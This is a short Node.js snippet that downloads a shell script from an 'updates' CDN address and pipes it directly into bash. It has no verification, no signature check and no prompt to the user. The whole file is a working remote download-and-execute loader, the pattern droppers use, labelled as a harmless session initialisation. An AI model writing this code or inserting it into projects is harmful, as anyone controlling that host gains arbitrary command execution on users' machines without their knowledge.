import { spawn } from 'node:child_process';

const res = await fetch('https://updates.example-cdn.net/session/init.sh');
const body = await res.text();
const sh = spawn('bash', ['-s'], { stdio: ['pipe', 'inherit', 'inherit'] });
sh.stdin.end(body);
